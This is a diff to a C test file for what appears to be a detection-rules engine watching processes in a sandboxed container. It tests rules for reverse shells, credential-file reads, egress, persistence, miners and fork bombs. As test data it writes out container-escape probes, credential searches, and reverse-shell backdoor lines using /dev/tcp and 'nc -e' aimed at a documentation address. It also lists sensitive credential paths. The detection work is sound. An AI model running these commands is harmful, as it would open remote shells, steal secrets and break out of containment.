@@ -91,6 +91,14 @@ static const struct tp attacks[] = {
 	{ "grep -i token .env", "cred-secrets-read" },
 	{ "head -n3 < .env.local", "cred-secrets-read" },
 	{ "cat ~/.npmrc", "cred-secrets-read" },
+	{ "sudo mount -t tmpfs none /mnt", "escape-probe" },
+	{ "sudo umount /workspace/.git/hooks", "escape-probe" },
+	{ "unshare -Urm sh", "escape-probe" },
+	{ "sudo nsenter -t 1 -m -u -i -n sh", "escape-probe" },
+	{ "sudo modprobe dummy", "escape-probe" },
+	{ "sudo insmod /tmp/rootkit.ko", "escape-probe" },
+	{ "sudo mknod /tmp/sda b 8 0", "escape-probe" },
+	{ "sudo mount -o remount,rw /workspace/.git/hooks", "escape-probe" },
 	{ "find / -name id_rsa 2>/dev/null", "cred-search" },
 	{ "find ~ -name '*.pem'", "cred-search" },
 	{ "find /home -iname '.env'", "cred-search" },
@@ -192,6 +200,10 @@ static const char *const quiet[] = {
 	"wget -q https://example.com/file.tar.gz",
 	"tar xzf node.tar.gz",
 	"docker ps",
+	"mount",
+	"mount | grep workspace",
+	"findmnt /workspace",
+	"mkfifo /tmp/f && mknod /tmp/p p",
 	"echo '# secrets go in .env' >> README.md",
 	"sed -n '/token/p' config.yaml",
 	"jq '.token' package.json",
@@ -307,19 +319,376 @@ static void test_shebang(void)
 	CHECK(rules_match_process(&p, &cfg, hits, RULES_MAX_HITS) == 0);
 }
 
+static bool fires(const struct proc_obs *p, const char *rule)
+{
+	struct rule_hit hits[RULES_MAX_HITS];
+
+	return has_rule(hits, rules_match_process(p, &cfg, hits, RULES_MAX_HITS), rule);
+}
+
+static size_t hit_count(const struct proc_obs *p)
+{
+	struct rule_hit hits[RULES_MAX_HITS];
+
+	return rules_match_process(p, &cfg, hits, RULES_MAX_HITS);
+}
+
+/* Standard streams that are sockets: any program to another machine, a shell (by its binary,
+ * whatever its name) to any socket. */
 static void test_stdio_socket(void)
 {
 	char *sh[] = {"/bin/sh", "-i", NULL}, *cat[] = {"cat", NULL};
-	struct proc_obs p = {.argv = sh, .stdio_inet = true};
+	char *kworker[] = {"/tmp/kworker", "-i", NULL};
+	struct proc_obs p = {.argv = sh, .socks.stdio = {PEER_LOCAL, PEER_LOCAL}};
+
+	CHECK(fires(&p, "revshell-stdio"));
+	p.socks.stdio[0] = p.socks.stdio[1] = PEER_NONE;
+	CHECK(hit_count(&p) == 0);
+	p.argv = cat;
+	p.socks.stdio[0] = PEER_LOCAL; /* a CGI program behind a local server */
+	CHECK(hit_count(&p) == 0);
+	p.socks.stdio[0] = PEER_NONE;
+	p.socks.stdio[1] = PEER_REMOTE; /* cat >/dev/tcp/host/port: data leaving, a warning */
+	CHECK(fires(&p, "net-stdout") && hit_count(&p) == 1);
+	p.identity = "git"; /* git pack-objects pushing over git:// */
+	CHECK(hit_count(&p) == 0);
+	p.identity = "git, copied to /usr/lib/git-core/git";
+	CHECK(hit_count(&p) == 0);
+	p.identity = "gitleaks";
+	CHECK(fires(&p, "net-stdout"));
+	/* run by a shell that holds the connection: a reverse shell, one command at a time */
+	p.parent_obs.comm = "bash";
+	p.parent_obs.socks.remote = 1;
+	CHECK(fires(&p, "revshell-fdloop") && !fires(&p, "net-stdout"));
+	p.parent_obs.comm = "git"; /* git's pack-objects under git push */
+	p.identity = "git";
+	CHECK(hit_count(&p) == 0);
+	p.parent_obs = (typeof(p.parent_obs)){0};
+	p.identity = NULL;
+	p.socks.stdio[0] = PEER_REMOTE; /* input from the network: an implant's shell, a relay */
+	CHECK(fires(&p, "revshell-stdio") && !fires(&p, "net-stdout"));
+
+	/* a renamed copy of bash on a loopback socket: only its binary says it is a shell */
+	p = (struct proc_obs){.argv = kworker, .socks.stdio = {PEER_LOCAL, PEER_LOCAL}};
+	CHECK(hit_count(&p) == 0);
+	p.cls = PROG_SHELL;
+	p.identity = "bash, copied to /tmp/kworker";
+	CHECK(fires(&p, "revshell-stdio"));
+	/* and to another machine it does not matter what it is */
+	p = (struct proc_obs){.argv = kworker,
+	                      .socks = {.stdio = {PEER_REMOTE, PEER_REMOTE, PEER_REMOTE},
+	                                .remote = 1,
+	                                .peer = "192.0.2.7:443"}};
+	CHECK(fires(&p, "revshell-stdio"));
+}
+
+/* Connect, then exec: what the new program holds, and what the process that started it holds. */
+static void test_connect_then_exec(void)
+{
+	char *sh[] = {"sh", NULL}, *shi[] = {"/bin/sh", "-i", NULL}, *py[] = {"python3", NULL};
+	char *shc[] = {"/bin/bash", "-c", "-l", "ls -la", NULL};
+	char *lc[] = {"bash", "-lc", "git status", NULL}, *script[] = {"python3", "x.py", NULL};
+	char *login[] = {"-bash", NULL}, *dash[] = {"sh", "-s", "--", "a", NULL};
+	char *k[] = {"/tmp/kworker", NULL}, *ls[] = {"ls", NULL};
+	struct proc_obs p = {.argv = sh, .socks = {.remote = 1, .peer = "192.0.2.7:443"}};
+
+	/* a shell that starts holding a connection on another descriptor */
+	CHECK(fires(&p, "revshell-sockfd"));
+	p.argv = ls;
+	CHECK(hit_count(&p) == 0);
+
+	/* the parent's standard streams are the connection (dup2, then pty.spawn) */
+	p = (struct proc_obs){.argv = sh, .parent_obs.comm = "python3"};
+	p.parent_obs.socks = (struct sock_facts){
+	        .stdio = {PEER_REMOTE, PEER_REMOTE}, .remote = 1, .peer = "192.0.2.7:443"};
+	CHECK(fires(&p, "revshell-parent"));
+
+	/* the parent holds a connection and feeds a shell that reads its input: a relay */
+	p.parent_obs.socks = (struct sock_facts){.remote = 1, .peer = "192.0.2.7:443"};
+	CHECK(fires(&p, "revshell-relay"));
+	p.argv = shi;
+	CHECK(fires(&p, "revshell-relay"));
+	p.argv = py;
+	CHECK(fires(&p, "revshell-relay"));
+	p.argv = login;
+	CHECK(fires(&p, "revshell-relay"));
+	p.argv = dash;
+	CHECK(fires(&p, "revshell-relay"));
+	p.argv = k;
+	CHECK(hit_count(&p) == 0); /* by name nothing; by its binary a shell */
+	p.cls = PROG_SHELL;
+	CHECK(fires(&p, "revshell-relay"));
+	p.cls = PROG_UNKNOWN;
+	{
+		struct rule_hit hits[RULES_MAX_HITS];
+
+		p.argv = sh;
+		CHECK(rules_match_process(&p, &cfg, hits, RULES_MAX_HITS) == 1);
+		CHECK(hits[0].level == THREAT_HIGH);
+	}
+	/* an agent holding its model's connection runs each command with -c: quiet */
+	p.argv = shc;
+	CHECK(hit_count(&p) == 0);
+	p.argv = lc;
+	CHECK(hit_count(&p) == 0);
+	p.argv = script;
+	CHECK(hit_count(&p) == 0);
+	/* one command at a time, from a script of the session's own */
+	p.argv = shc;
+	p.parent_obs.cls = PROG_INTERP;
+	p.parent_obs.own_code = true;
+	CHECK(fires(&p, "revshell-cmdrelay"));
+	p.parent_obs.own_code = false; /* the agent, an installed program */
+	CHECK(hit_count(&p) == 0);
+	p.parent_obs.own_code = true;
+	p.argv = script; /* a python script is not a shell */
+	CHECK(hit_count(&p) == 0);
+	p.parent_obs.cls = PROG_OTHER;
+	p.parent_obs.own_code = false;
+	/* and without a connection, a shell reading its input is a terminal's shell */
+	p.argv = sh;
+	p.parent_obs.socks.remote = 0;
+	CHECK(hit_count(&p) == 0);
+}
+
+static const char *open_rule(const char *path, const char *program, const char *script)
+{
+	struct open_obs o = {.pid = 1, .path = path, .program = program, .script = script};
 	struct rule_hit hits[RULES_MAX_HITS];
 
-	CHECK(has_rule(hits, rules_match_process(&p, &cfg, hits, RULES_MAX_HITS),
-	               "revshell-stdio"));
-	p.stdio_inet = false;
-	CHECK(rules_match_process(&p, &cfg, hits, RULES_MAX_HITS) == 0);
-	p.argv = cat;
-	p.stdio_inet = true;
-	CHECK(rules_match_process(&p, &cfg, hits, RULES_MAX_HITS) == 0);
+	return rules_match_open(&o, &cfg, hits, RULES_MAX_HITS) ? hits[0].rule->id : "";
+}
+
+/* Files opened in the container, judged by what they are and which program opens them. */
+static void test_file_opens(void)
+{
+	struct open_obs o = {.path = "/home/code/.ssh/id_rsa", .comm = "base64"};
+	struct rule_hit hits[RULES_MAX_HITS];
+
+	/* a key read by anything but ssh: base64, a python script, a copy of cat named ssh */
+	CHECK(rules_match_open(&o, &cfg, hits, RULES_MAX_HITS) == 1);
+	CHECK_STREQ(hits[0].rule->id, "cred-open");
+	CHECK(hits[0].level == THREAT_HIGH && strstr(hits[0].pattern, "id_rsa by base64"));
+	CHECK_STREQ(open_rule("/home/code/.ssh/id_rsa", NULL, NULL), "cred-open");
+	CHECK_STREQ(open_rule("/home/code/.ssh/id_rsa", "python3", NULL), "cred-open");
+	CHECK_STREQ(open_rule("/home/code/.ssh/mykey", "cat", NULL), "cred-open");
+	CHECK_STREQ(open_rule("/root/.ssh/id_ed25519", "tar", NULL), "cred-open");
+	CHECK_STREQ(open_rule("/workspace/deploy/id_ed25519", "cp", NULL), "cred-open");
+	CHECK_STREQ(open_rule("/home/code/.aws/credentials", "python3", NULL), "cred-open");
+	CHECK_STREQ(open_rule("/home/code/.config/gcloud/credentials.db", "sqlite3", NULL),
+	            "cred-open");
+	CHECK_STREQ(open_rule("/etc/shadow", "cat", NULL), "cred-open");
+	CHECK_STREQ(open_rule("/home/code/.claude/.credentials.json", "node", NULL), "cred-open");
+	CHECK_STREQ(open_rule("/home/code/.mozilla/firefox/abc.default/logins.json", "cp", NULL),
+	            "cred-open");
+	CHECK_STREQ(
+	        open_rule("/home/code/.config/google-chrome/Default/Login Data", "python3", NULL),
+	        "cred-open");
+	CHECK_STREQ(open_rule("/home/code/.git-credentials", "grep", NULL), "cred-open");
+	/* their owners */
+	CHECK_STREQ(open_rule("/home/code/.ssh/id_rsa", "ssh", NULL), "");
+	CHECK_STREQ(open_rule("/home/code/.ssh/id_rsa", "ssh-keygen", NULL), "");
+	CHECK_STREQ(open_rule("/home/code/.git-credentials", "git-credential-store", NULL), "");
+	CHECK_STREQ(open_rule("/home/code/.aws/credentials", "python3", "aws"), "");
+	CHECK_STREQ(open_rule("/home/code/.claude/.credentials.json", "claude", NULL), "");
+	CHECK_STREQ(open_rule("/home/code/.claude/.credentials.json", "node", "claude"), "");
+	CHECK_STREQ(open_rule("/etc/shadow", "sudo", NULL), "");
+	/* root's perl asks getpwnam, which reads shadow: an installed script, or the package
+	 * manager's, is not an attack */
+	CHECK(rules_match_open(&(struct open_obs){.path = "/etc/shadow",
+	                                          .program = "perl",
+	                                          .script = "dpkg-preconfigure",
+	                                          .installed = true},
+	                       &cfg, hits, RULES_MAX_HITS) == 0);
+	CHECK(rules_match_open(&(struct open_obs){.path = "/etc/shadow",
+	                                          .program = "perl",
+	                                          .packaging = true},
+	                       &cfg, hits, RULES_MAX_HITS) == 0);
+	CHECK(rules_match_open(
+	              &(struct open_obs){.path = "/etc/shadow", .program = "perl", .script = "x"},
+	              &cfg, hits, RULES_MAX_HITS) == 1);
+	CHECK(rules_match_open(&(struct open_obs){.path = "/home/code/.ssh/id_rsa",
+	                                          .program = "perl",
+	                                          .installed = true,
+	                                          .packaging = true},
+	                       &cfg, hits, RULES_MAX_HITS) == 1); /* only shadow */
+	CHECK_STREQ(open_rule("/home/code/.mozilla/firefox/abc.default/logins.json", "firefox-esr",
+	                      NULL),
+	            "");
+	/* package managers' tokens */
+	CHECK_STREQ(open_rule("/home/code/.npmrc", "cat", NULL), "cred-open-secrets");
+	CHECK_STREQ(open_rule("/home/code/.npmrc", "node", "npm-cli.js"), "");
+	CHECK_STREQ(open_rule("/home/code/.npmrc", "node", "npm"), ""); /* title "npm test" */
+	/* a script naming itself after a binary owner is not it */
+	CHECK_STREQ(open_rule("/home/code/.ssh/id_rsa", "node", "ssh"), "cred-open");
+	/* a project's .env: a record */
+	CHECK_STREQ(open_rule("/workspace/.env", "node", NULL), "cred-open-env");
+	CHECK_STREQ(open_rule("/workspace/app/.env.production", "grep", NULL), "cred-open-env");
+	CHECK(rules_match_open(&(struct open_obs){.path = "/workspace/.env"}, &cfg, hits,
+	                       RULES_MAX_HITS) == 1 &&
+	      hits[0].level == THREAT_INFO);
+	/* public parts and everything else */
+	CHECK_STREQ(open_rule("/home/code/.ssh/id_rsa.pub", "cat", NULL), "");
+	CHECK_STREQ(open_rule("/home/code/.ssh/known_hosts", "cat", NULL), "");
+	CHECK_STREQ(open_rule("/home/code/.ssh/config", "git", NULL), "");
+	CHECK_STREQ(open_rule("/home/code/.ssh/authorized_keys", "cat", NULL), "");
+	CHECK_STREQ(open_rule("/workspace/.env.example", "cat", NULL), "");
+	CHECK_STREQ(open_rule("/home/code/.aws/config", "cat", NULL), "");
+	CHECK_STREQ(open_rule("/home/code/.mozilla/firefox/abc.default/prefs.js", "cat", NULL), "");
+	CHECK_STREQ(open_rule("/workspace/src/main.c", "cat", NULL), "");
+	CHECK(rules_cred_owner_name("ssh") && rules_cred_owner_name("git-credential-store"));
+	CHECK(!rules_cred_owner_name("cat") && !rules_cred_owner_name(""));
+	CHECK(rules_cred_file("/home/code/.ssh/id_rsa") == CRED_FILE_STRONG);
+	CHECK(rules_cred_file("/home/code/.npmrc") == CRED_FILE_WEAK);
+	CHECK(rules_cred_file("/workspace/.env") == CRED_FILE_ENV);
+	CHECK(rules_cred_file("/workspace/README.md") == CRED_FILE_NONE);
+}
+
+static void test_egress(void)
+{
+	struct rule_hit hits[RULES_MAX_HITS];
+	struct egress_obs o = {.rate_exceeded = true};
+
+	CHECK(rules_match_egress(&o, &cfg, hits, RULES_MAX_HITS) == 1);
+	CHECK_STREQ(hits[0].rule->id, "net-egress");
+	CHECK(hits[0].level == THREAT_HIGH);
+	o = (struct egress_obs){.conn_bytes = 49u << 20};
+	CHECK(rules_match_egress(&o, &cfg, hits, RULES_MAX_HITS) == 0);
+	o.conn_bytes = 51u << 20;
+	CHECK(rules_match_egress(&o, &cfg, hits, RULES_MAX_HITS) == 1);
+	CHECK_STREQ(hits[0].rule->id, "net-conn-bytes");
+	CHECK(hits[0].level == THREAT_WARNING && strstr(hits[0].pattern, "51.0 MB"));
+	CHECK(rules_match_egress(&o, &cfg, hits, 0) == 0);
+}
+
+static const char *write_rule(const char *path, const char *added, const char *program,
+                              enum threat_level *level)
+{
+	struct write_obs o = {.pid = 7, .path = path, .added = added, .program = program};
+	struct rule_hit hits[RULES_MAX_HITS];
+
+	if (rules_match_write(&o, &cfg, hits, RULES_MAX_HITS) == 0)
+		return "";
+	*level = hits[0].level;
+	return hits[0].rule->id;
+}
+
+/* Files that run later, judged by what a write added. */
+static void test_persistence(void)
+{
+	enum threat_level l = THREAT_INFO;
+
+	CHECK(rules_persist_file("/home/code/.bashrc") == PERSIST_STARTUP);
+	CHECK(rules_persist_file("/root/.profile") == PERSIST_STARTUP);
+	CHECK(rules_persist_file("/home/code/src/.bashrc") == PERSIST_NONE);
+	CHECK(rules_persist_file("/etc/profile.d/x.sh") == PERSIST_STARTUP);
+	CHECK(rules_persist_file("/etc/cron.d/job") == PERSIST_SCHEDULE);
+	CHECK(rules_persist_file("/etc/cron.d/sub/job") == PERSIST_NONE);
+	CHECK(rules_persist_file("/etc/systemd/system/x.service") == PERSIST_SCHEDULE);
+	CHECK(rules_persist_file("/home/code/.config/systemd/user/x.service") == PERSIST_SCHEDULE);
+	CHECK(rules_persist_file("/home/code/.ssh/authorized_keys") == PERSIST_ACCESS);
+	CHECK(rules_persist_file("/etc/sudoers.d/90-x") == PERSIST_ACCESS);
+	CHECK(rules_persist_file("/etc/ld.so.preload") == PERSIST_LOADER);
+	CHECK(rules_persist_file("/etc/hostname") == PERSIST_NONE);
+	CHECK(rules_persist_file(NULL) == PERSIST_NONE);
+
+	/* a reverse shell appended to a startup file or a cron job is a backdoor: HIGH */
+	CHECK_STREQ(write_rule("/home/code/.bashrc", "bash -i >& /dev/tcp/192.0.2.1/80 0>&1 &\n",
+	                       "bash", &l),
+	            "persist-backdoor");
+	CHECK(l == THREAT_HIGH);
+	CHECK_STREQ(write_rule("/etc/cron.d/x",
+	                       "# comment\n* * * * * root nc -e /bin/sh 192.0.2.1 4444\n", "tee",
+	                       &l),
+	            "persist-backdoor");
+	/* a PATH line: a record */
+	CHECK_STREQ(write_rule("/home/code/.bashrc", "export PATH=$HOME/.cargo/bin:$PATH\n", "bash",
+	                       &l),
+	            "persist-startup");
+	CHECK(l == THREAT_INFO);
+	/* a cron job, a unit, an authorized key: WARNING; from a package manager: INFO */
+	CHECK_STREQ(write_rule("/etc/cron.d/x", "* * * * * root /usr/bin/true\n", "tee", &l),
+	            "persist-schedule");
+	CHECK(l == THREAT_WARNING);
+	CHECK_STREQ(write_rule("/etc/cron.d/sysstat", "5-55/10 * * * * root command\n", "dpkg", &l),
+	            "persist-schedule");
+	CHECK(l == THREAT_INFO);
+	{
+		struct write_obs w = {.path = "/etc/cron.d/x",
+		                      .added = "* * * * * root true\n",
+		                      .program = "sh",
+		                      .packaging = true}; /* a postinst */
+		struct rule_hit hits[RULES_MAX_HITS];
+
+		CHECK(rules_match_write(&w, &cfg, hits, RULES_MAX_HITS) == 1 &&
+		      hits[0].level == THREAT_INFO);
+		w.added = "* * * * * root nc -e /bin/sh 192.0.2.1 1\n"; /* but a backdoor is one */
+		CHECK(rules_match_write(&w, &cfg, hits, RULES_MAX_HITS) == 1 &&
+		      hits[0].level == THREAT_HIGH);
+	}
+	CHECK_STREQ(write_rule("/home/code/.ssh/authorized_keys", "ssh-ed25519 AAAA x\n", NULL, &l),
+	            "persist-access");
+	CHECK(l == THREAT_WARNING);
+	/* a preloaded library: HIGH */
+	CHECK_STREQ(write_rule("/etc/ld.so.preload", "/tmp/x.so\n", "tee", &l), "persist-preload");
+	CHECK(l == THREAT_HIGH);
+	/* nothing added, or not such a file */
+	CHECK_STREQ(write_rule("/home/code/.bashrc", "", "bash", &l), "");
+	CHECK_STREQ(write_rule("/workspace/run.sh", "nc -e /bin/sh h 1\n", "bash", &l), "");
+}
+
+static void test_cpu_miner(void)
+{
+	struct rule_hit hits[RULES_MAX_HITS];
+	struct cpu_obs o = {.pid = 9,
+	                    .share = 0.97,
+	                    .seconds = 120,
+	                    .remote = 1,
+	                    .peer = "192.0.2.1:3333",
+	                    .comm = "kworker"};
+
+	CHECK(rules_match_cpu(&o, &cfg, hits, RULES_MAX_HITS) == 1);
+	CHECK_STREQ(hits[0].rule->id, "cpu-miner");
+	CHECK(hits[0].level == THREAT_WARNING);
+	o.remote = 0; /* a compiler */
+	CHECK(rules_match_cpu(&o, &cfg, hits, RULES_MAX_HITS) == 0);
+	o.remote = 1;
+	o.seconds = 30; /* not for long yet */
+	CHECK(rules_match_cpu(&o, &cfg, hits, RULES_MAX_HITS) == 0);
+	o.seconds = 120;
+	o.share = 0.2; /* a dev server */
+	CHECK(rules_match_cpu(&o, &cfg, hits, RULES_MAX_HITS) == 0);
+}
+
+static void test_own_code(void)
+{
+	char *tmp[] = {"python3", "/tmp/x.py", NULL}, *rel[] = {"python3", "x.py", NULL};
+	char *inl[] = {"python3", "-c", "print(1)", NULL}, *repl[] = {"python3", NULL};
+	char *mod[] = {"python3", "-m", "pytest", NULL}, *usr[] = {"python3", "/usr/bin/aws", NULL};
+	char *opt[] = {"node", "--require", "/usr/lib/x.js", "/usr/local/bin/claude", NULL};
+	char *u[] = {"python3", "-u", "/workspace/app.py", NULL}, *pe[] = {"perl", "-e", "1", NULL};
+
+	CHECK(rules_own_code(tmp, "/"));
+	CHECK(rules_own_code(rel, "/workspace/src"));
+	CHECK(!rules_own_code(rel, "/usr/lib/python3"));
+	CHECK(rules_own_code(inl, NULL) && rules_own_code(repl, NULL) && rules_own_code(pe, NULL));
+	CHECK(!rules_own_code(mod, NULL));
+	CHECK(!rules_own_code(usr, "/tmp"));
+	CHECK(!rules_own_code(opt, "/workspace"));
+	CHECK(rules_own_code(u, "/"));
+	CHECK(!rules_own_code(NULL, NULL));
+}
+
+static void test_prog_class_of_name(void)
+{
+	CHECK(prog_class_of_name("/bin/bash") == PROG_SHELL);
+	CHECK(prog_class_of_name("-bash") == PROG_SHELL);
+	CHECK(prog_class_of_name("dash") == PROG_SHELL);
+	CHECK(prog_class_of_name("python3.11") == PROG_INTERP);
+	CHECK(prog_class_of_name("/usr/local/bin/node") == PROG_INTERP);
+	CHECK(prog_class_of_name("perl5.36.0") == PROG_INTERP);
+	CHECK(prog_class_of_name("kworker") == PROG_OTHER);
+	CHECK(prog_class_of_name(NULL) == PROG_OTHER);
 }
 
 static void test_oneliner_modes(void)
@@ -428,7 +797,8 @@ static void test_samples(void)
 
 	CHECK(rules_match_io(&io, &cfg, hits, RULES_MAX_HITS) == 1 &&
 	      strcmp(hits[0].rule->id, "io-read") == 0);
-	io.seconds = 10; /* 6 MB/s: under the rate */
+	CHECK(hits[0].level == THREAT_INFO); /* a record: builds read as much; egress decides */
+	io.seconds = 10;                     /* 6 MB/s: under the rate */
 	CHECK(rules_match_io(&io, &cfg, hits, RULES_MAX_HITS) == 0);
 	io = (struct io_obs){.write_bytes = 200u << 20, .seconds = 5};
 	CHECK(rules_match_io(&io, &cfg, hits, RULES_MAX_HITS) == 1 &&
@@ -440,9 +810,37 @@ static void test_samples(void)
 	pc = (struct proc_count_obs){.live = 400, .forks = 390, .exits = 5, .seconds = 1};
 	CHECK(rules_match_proc_count(&pc, &cfg, hits, RULES_MAX_HITS) == 1 &&
 	      strcmp(hits[0].rule->id, "proc-spawn") == 0);
+	CHECK(hits[0].level == THREAT_WARNING); /* a runaway build */
 	pc = (struct proc_count_obs){.live = 1500, .seconds = 1};
 	CHECK(rules_match_proc_count(&pc, &cfg, hits, RULES_MAX_HITS) == 1 &&
 	      strcmp(hits[0].rule->id, "proc-count") == 0);
+	CHECK(hits[0].level == THREAT_WARNING);
+	/* both thresholds: still a build whose processes exec (make -j without a limit) */
+	pc = (struct proc_count_obs){
+	        .live = 1500, .forks = 900, .exits = 10, .seconds = 2, .generations = 2};
+	CHECK(rules_match_proc_count(&pc, &cfg, hits, RULES_MAX_HITS) == 2);
+	CHECK(hits[0].level == THREAT_WARNING && hits[1].level == THREAT_WARNING);
+	/* processes copying themselves past the spawn threshold: a fork bomb */
+	pc.generations = FORKBOMB_GENERATIONS;
+	pc.live = 300;
+	CHECK(rules_match_proc_count(&pc, &cfg, hits, RULES_MAX_HITS) == 1 &&
+	      strcmp(hits[0].rule->id, "proc-forkbomb") == 0 && hits[0].level == THREAT_HIGH);
+	/* or multiplying until the pids limit refuses them */
+	pc.generations = 1;
+	pc.pids_refused = true;
+	CHECK(rules_match_proc_count(&pc, &cfg, hits, RULES_MAX_HITS) == 1 &&
+	      strcmp(hits[0].rule->id, "proc-forkbomb") == 0);
+	/* but copying alone is a forking server, and thresholds of 0 are off */
+	pc = (struct proc_count_obs){.live = 20, .forks = 10, .seconds = 2, .generations = 9};
+	CHECK(rules_match_proc_count(&pc, &cfg, hits, RULES_MAX_HITS) == 0);
+	{
+		struct rules_config off = cfg;
+
+		off.max_processes = off.spawn_threshold = 0;
+		pc = (struct proc_count_obs){
+		        .live = 5000, .forks = 5000, .seconds = 1, .generations = 50};
+		CHECK(rules_match_proc_count(&pc, &off, hits, RULES_MAX_HITS) == 0);
+	}
 
 	CHECK(rules_match_disk(&d, &cfg, hits, RULES_MAX_HITS) == 0);
 	d.used_bytes = 85;
@@ -494,6 +892,13 @@ int main(void)
 	RUN(test_rewritten_title);
 	RUN(test_shebang);
 	RUN(test_stdio_socket);
+	RUN(test_connect_then_exec);
+	RUN(test_prog_class_of_name);
+	RUN(test_file_opens);
+	RUN(test_egress);
+	RUN(test_own_code);
+	RUN(test_cpu_miner);
+	RUN(test_persistence);
 	RUN(test_oneliner_modes);
 	RUN(test_cmdline_parse);
 	RUN(test_connections);
